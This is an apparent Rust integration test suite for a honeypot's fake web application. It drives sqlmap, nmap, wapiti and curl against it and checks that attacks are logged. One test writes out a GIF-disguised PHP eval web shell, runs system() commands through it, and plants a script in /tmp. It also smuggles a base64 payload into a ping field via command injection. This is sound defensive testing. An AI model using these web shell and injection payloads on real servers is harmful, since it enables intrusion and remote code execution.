//! The web trap's application and the files that visitors drop, before real tools: sqlmap, nmap, curl, wapiti.
#![allow(
    clippy::panic,
    clippy::print_stdout,
    reason = "a test stops where its ground gives way, and says what it skips"
)]
#![allow(clippy::unwrap_used, clippy::expect_used, reason = "a test fails by panicking")]

#[allow(dead_code, reason = "other tests use what these do not")]
#[path = "support/house.rs"]
mod support;

use std::process::Command;

use kizashi_event::Detail;
use kizashi_traps::{Identity, MysqlRelease, WebServer};
use support::{House, commands, installed, said};

/// An installation and where its application lies.
fn open(server: WebServer) -> (House, String) {
    let identity = Identity::draw([1; 32]).with_default_page().with_web_server(server);
    let house = House::of_trap("http", identity.with_mysql_release(MysqlRelease::MariaDb));
    let places = ["/", "/site/", "/cms/", "/club/", "/web/", "/portal/", "/news/"];
    let address = house.address;
    let found = places.into_iter().find(|place| {
        let url = format!("http://{address}{place}article.php?id=1");
        curl(&["-o", "/dev/null", "-w", "%{http_code}"], &url) == "200"
    });
    let base = format!("http://{address}{}", found.expect("the application"));
    (house, base)
}

fn curl(arguments: &[&str], url: &str) -> String {
    let output = Command::new("curl")
        .args(["-s", "-m", "30", "--path-as-is"])
        .args(arguments)
        .arg(url)
        .output()
        .unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn classes(events: &[kizashi_event::Event]) -> Vec<String> {
    let class = |event: &kizashi_event::Event| match &event.detail {
        Detail::Request { request, .. } => {
            request.class.as_ref().map(|class| class.raw().to_owned())
        }
        _ => None,
    };
    events.iter().filter_map(class).collect()
}

fn sqlmap(house: &House, arguments: &[&str], url: &str) -> String {
    let output = Command::new("sqlmap")
        .args([
            "-u",
            url,
            "--batch",
            "--flush-session",
            "--disable-coloring",
            "--answers=crack=N",
            "--time-sec=1",
        ])
        .arg(format!("--output-dir={}", house.folder().display()))
        .args(arguments)
        .output()
        .unwrap();
    said(&output)
}

#[test]
fn sqlmap_finds_the_injection_and_dumps_the_users() {
    if !installed("sqlmap") {
        return;
    }
    let (house, base) = open(WebServer::ApacheDebian12);
    let url = format!("{base}article.php?id=1");
    let found = sqlmap(&house, &["--technique=BEUT", "--dump", "-T", "users"], &url);
    for word in [
        "boolean-based blind",
        "error-based",
        "time-based blind",
        "UNION query",
        "MariaDB",
        "Table: users",
        "password",
        "admin",
    ] {
        assert!(found.contains(word), "{word}\n{found}");
    }
    let events = house.close();
    assert!(classes(&events).iter().filter(|class| *class == "sql-injection").count() > 20);
    let noted = events.iter().any(|event| matches!(&event.detail, Detail::Note { name, value } if name.raw() == "sql result" && value.raw().contains("admin")));
    assert!(noted, "what was extracted is told");
}

#[test]
fn sqlmap_lists_databases_and_tables_by_each_technique_alone() {
    if !installed("sqlmap") {
        return;
    }
    let (house, base) = open(WebServer::NginxUbuntu20);
    for (technique, page) in [
        ("B", "article.php?id=1"),
        ("E", "article.php?id=1"),
        ("U", "news.php?category=club"),
        ("T", "article.php?id=1"),
    ] {
        // By time alone one byte takes seconds: that it is found is enough.
        let wanted: &[&str] = if technique == "T" { &[] } else { &["--dbs", "--tables"] };
        let arguments = [&["--technique", technique][..], wanted].concat();
        let found = sqlmap(&house, &arguments, &format!("{base}{page}"));
        let words: &[&str] = if technique == "T" {
            &["time-based blind", "MySQL"]
        } else {
            &["information_schema", "articles", "users"]
        };
        for word in words {
            assert!(found.contains(word), "{technique}: {word}\n{found}");
        }
    }
    house.close();
}

#[test]
fn what_is_uploaded_runs_for_whoever_brought_it() {
    let (house, base) = open(WebServer::ApacheUbuntu24);
    let shell = house.folder().join("holiday.php");
    std::fs::write(&shell, "GIF89a;<?php if(md5($_POST['p'])=='900150983cd24fb0d6963f7d28e17f72'){@eval($_POST['z']);} ?>").unwrap();
    let form = format!("file=@{}", shell.display());
    let page = curl(&["-F", &form], &format!("{base}upload.php"));
    assert!(page.contains("uploads/holiday.php"), "{page}");
    let url = format!("{base}uploads/holiday.php");
    assert_eq!(curl(&["-d", "p=no&z=system('id');"], &url), "GIF89a;");
    let id = curl(&["-d", "p=abc&z=system('id;pwd');"], &url);
    assert!(id.contains("uid=33(www-data)") && id.contains("/uploads\n"), "{id}");
    let wrote = curl(&["-d", "p=abc&z=echo file_put_contents('../x.php','<?=6*7;');"], &url);
    assert_eq!(wrote, "GIF89a;7");
    assert_eq!(curl(&[], &format!("{base}x.php")), "42");
    // What one command leaves, the next finds.
    let left =
        curl(&["-d", "p=abc&z=system('echo echo still here > /tmp/.s; chmod +x /tmp/.s');"], &url);
    assert_eq!(left, "GIF89a;");
    let found = curl(&["-d", "p=abc&z=system('sh /tmp/.s');"], &url);
    assert!(found.contains("still here"), "{found}");
    // A command that writes below the root by way of the address to ping.
    curl(
        &[
            "-G",
            "--data-urlencode",
            "host=;echo PD9waHAgZWNobyBzdHJyZXYoJ2VrYWwnKTs= | base64 -d > y.php",
        ],
        &format!("{base}tools.php"),
    );
    assert_eq!(curl(&[], &format!("{base}y.php")), "lake");
    assert_eq!(
        curl(&["-T", "-"], &format!("{base}nothing.txt")),
        curl(&["-T", "-"], &format!("{base}nothing.txt"))
    );
    let events = house.close();
    assert!(
        commands(&events).iter().any(|line| line.contains("id;pwd")),
        "{:?}",
        commands(&events)
    );
    let classes = classes(&events);
    for class in ["upload", "webshell", "command-injection"] {
        assert!(classes.iter().any(|found| found == class), "{class}: {classes:?}");
    }
    let told = events.iter().any(|event| {
        event.detail.payload().is_some_and(|payload| payload.content.starts_with(b"GIF89a;<?php"))
    });
    assert!(told, "the upload is told as a payload");
}

#[test]
fn nmaps_scripts_find_the_holes() {
    if !installed("nmap") {
        return;
    }
    let (house, base) = open(WebServer::ApacheDebian12);
    let path = base.split_once(&house.port()).map(|(_, path)| path.to_owned()).unwrap();
    let scan = |script: &str, arguments: &str| {
        let output = Command::new("nmap")
            .args([
                "-Pn",
                "-n",
                "-p",
                &house.port(),
                "--script",
                script,
                "--script-args",
                arguments,
                "127.0.0.1",
            ])
            .output()
            .unwrap();
        said(&output)
    };
    let sql = scan(
        "+http-sql-injection",
        &format!("http-sql-injection.url={path},httpspider.maxpagecount=30"),
    );
    assert!(sql.contains("Possible sqli"), "{sql}");
    let shock = scan("+http-shellshock", "uri=/cgi-bin/status,cmd=id");
    assert!(shock.contains("VULNERABLE") && shock.contains("uid=33"), "{shock}");
    let upload = scan(
        "+http-fileupload-exploiter",
        &format!(
            "http-fileupload-exploiter.formpaths={{{path}upload.php}},http-fileupload-exploiter.uploadspaths={{{path}uploads/}}"
        ),
    );
    assert!(upload.contains("Successfully uploaded and executed payloads"), "{upload}");
    house.close();
}

#[test]
fn wapiti_sees_the_injections() {
    if !installed("wapiti") {
        return;
    }
    let (house, base) = open(WebServer::NginxUbuntu22);
    let report = house.folder().join("report.txt");
    let output = Command::new("wapiti")
        .args([
            "-u",
            &base,
            "-m",
            "sql,exec,file",
            "--max-links-per-page",
            "30",
            "--max-scan-time",
            "60",
            "-d",
            "2",
            "-f",
            "txt",
            "--flush-session",
            "-o",
        ])
        .arg(&report)
        .env("HOME", house.folder())
        .output()
        .unwrap();
    let text = std::fs::read_to_string(&report).unwrap_or_default();
    for word in ["SQL Injection", "Command execution", "Path Traversal"] {
        assert!(text.contains(word), "{word}\n{text}\n{}", said(&output));
    }
    house.close();
}
